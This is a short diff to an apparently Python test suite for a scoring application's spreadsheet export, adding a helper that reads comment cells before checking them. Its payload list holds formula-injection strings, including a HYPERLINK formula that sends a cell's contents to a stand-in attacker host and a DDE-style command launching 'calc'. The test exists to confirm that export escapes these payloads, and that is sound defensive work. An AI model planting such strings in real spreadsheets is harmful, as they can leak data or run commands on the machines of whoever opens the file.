@@ -30,6 +30,8 @@ from scoring.models import (
     User,
 )
 
+from ._shown import excel_text
+
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?d="&A1,"Відкрити")',
     "+1+cmd|' /C calc'!A0",
@@ -154,7 +156,7 @@ def test_the_workbook_has_no_formula_and_keeps_numbers_numeric(client, organiser
     assert first["Place"].data_type == "n" and first["Place"].value == 1
     assert first["Applicant"].data_type == "s" and first["Applicant"].value.startswith("'")
     scores = list(workbook["Scores"].iter_rows())
-    comments = {row[4].value for row in scores[1:]}
+    comments = {excel_text(row[4].value) for row in scores[1:]}
     assert {escaped(p) for p in PAYLOADS} <= comments
     points = [row[3] for row in scores[1:] if row[3].value not in (None, "recused")]
     assert points and all(cell.data_type == "n" for cell in points)
